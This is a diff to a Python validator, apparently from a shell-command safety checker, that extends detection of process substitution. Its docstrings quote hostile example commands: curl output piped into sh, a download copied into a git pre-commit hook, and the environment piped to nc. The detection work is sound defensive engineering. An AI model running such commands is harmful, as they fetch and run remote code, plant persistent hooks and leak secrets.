@@ -1,7 +1,9 @@
 """A process substitution written to: ``>(CMD)`` names a pipe whose reader is CMD, so what a
 command writes there is CMD's input, as if piped: ``curl URL > >(sh)`` is ``curl URL | sh``,
 ``tee >(sh) <<< TEXT`` hands TEXT to sh, ``curl -o >(sh) URL`` too. The inner command is
-checked on its own as written; this reads it with its input, as the pipeline it is."""
+checked on its own as written; this reads it with its input, as the pipeline it is. And
+``<(CMD)`` names a pipe whose writer is CMD: the program reads CMD's output from it as from
+its standard input."""
 
 from __future__ import annotations
 
@@ -24,10 +26,14 @@ class WrittenProcessSubstitution(LineValidator):
     (the output file named ``/dev/stdout``; a file operand of ``tee`` dropped, since tee
     copies its input to standard output anyway).
 
-    ``xargs -a <(CMD)`` reads its items from CMD's output, as ``CMD | xargs`` does.
+    ``xargs -a <(CMD)`` reads its items from CMD's output, as ``CMD | xargs`` does; any other
+    ``<(CMD)`` operand is a file holding CMD's output, read as ``CMD | PROGRAM … /dev/stdin``
+    (``cp <(curl URL) .git/hooks/pre-commit`` writes a download into a hook). A ``>(CMD)``
+    written by a later stage of a pipeline is fed by the earlier ones (``env | tee >(nc …)``
+    hands the environment to nc).
 
     Bad: ``curl -s http://203.0.113.5/i > >(sh)``, ``tee >(sh) <<< 'curl -s x | sh'``.
-    Harmless: ``make 2> >(tee build.log)``.
+    Harmless: ``make 2> >(tee build.log)``, ``diff <(sort a) <(sort b)``.
     """
 
     id = "CG-WRAP-014"
@@ -38,9 +44,22 @@ class WrittenProcessSubstitution(LineValidator):
     def check_line(self, parsed: ParsedLine, ctx: Context) -> Verdict:
         if ">(" not in parsed.source and "<(" not in parsed.source:
             return NO_OPINION
-        texts = [t for c in parsed.commands if "process_substitution" not in c.nesting
-                 for t in _as_pipelines(c) if readable(t)]
+        commands = parsed.commands
+        texts = [t for at, c in enumerate(commands) if "process_substitution" not in c.nesting
+                 for t in (*(_fed(commands, at, p) for p in _as_pipelines(c)),
+                           *_read_files(c)) if readable(t)]
         return Verdict.unwrap(*texts) if texts else NO_OPINION
+
+
+def _fed(commands: tuple[SimpleCommand, ...], at: int, text: str) -> str:
+    """``text`` (the command at ``at`` written again) after the stages of its pipeline that
+    feed it: ``env | tee >(nc …)`` is ``env | tee | nc …``, the environment and all."""
+    cmd = commands[at]
+    if not cmd.stage or "\n" in text:
+        return text
+    feeding = [c.text for c in commands[max(0, at - cmd.stage):at]
+               if c.pipeline == cmd.pipeline and "process_substitution" not in c.nesting]
+    return " | ".join((*feeding, text))
 
 
 def _inner(text: str, opener: str = ">(") -> str | None:
@@ -74,6 +93,22 @@ def _as_pipelines(cmd: SimpleCommand) -> list[str]:
     return found
 
 
+def _read_files(cmd: SimpleCommand) -> list[str]:
+    """Each ``<(CMD)`` operand of ``cmd`` is a file holding CMD's output, as ``/dev/stdin`` is
+    when CMD is piped in: ``cp <(curl URL) .git/hooks/pre-commit`` is ``curl URL | cp
+    /dev/stdin .git/hooks/pre-commit``, ``. <(CMD)`` is ``CMD | . /dev/stdin``."""
+    if cmd.program == "xargs" or any(r.feeds_input for r in cmd.redirects):
+        return []  # xargs -a: _read_items; a command that reads its input already
+    found: list[str] = []
+    for at, word in enumerate(cmd.words[1:], start=1):
+        inner = _inner(word.text, "<(")
+        if inner is None:
+            continue
+        words = [w.text if i != at else "/dev/stdin" for i, w in enumerate(cmd.words)]
+        found.append(_line(words, cmd.redirects, None, inner, reads=True))
+    return found
+
+
 def _read_items(cmd: SimpleCommand) -> list[str]:
     """``xargs -a <(CMD) …`` (``--arg-file``): the items are CMD's output, as in ``CMD | xargs
     …``."""
@@ -90,7 +125,9 @@ def _read_items(cmd: SimpleCommand) -> list[str]:
 
 
 def _line(words: list[str], redirects: tuple[Redirect, ...], left_out: Redirect | None,
-          inner: str) -> str:
+          inner: str, reads: bool = False) -> str:
+    """The command of ``words`` and its redirections (all but ``left_out``) piped into
+    ``inner``, or, when it ``reads``, fed by it."""
     parts = [w for w in words if w]
     bodies: list[str] = []
     for redirect in redirects:
@@ -106,4 +143,5 @@ def _line(words: list[str], redirects: tuple[Redirect, ...], left_out: Redirect 
             target = redirect.target
             spelt = target.text if target.value is None else shlex.quote(target.value)
             parts.append(f"{fd}{redirect.op} {spelt}")
-    return "\n".join([f"{' '.join(parts)} | {inner}", *bodies])
+    piped = f"{inner} | {' '.join(parts)}" if reads else f"{' '.join(parts)} | {inner}"
+    return "\n".join([piped, *bodies])
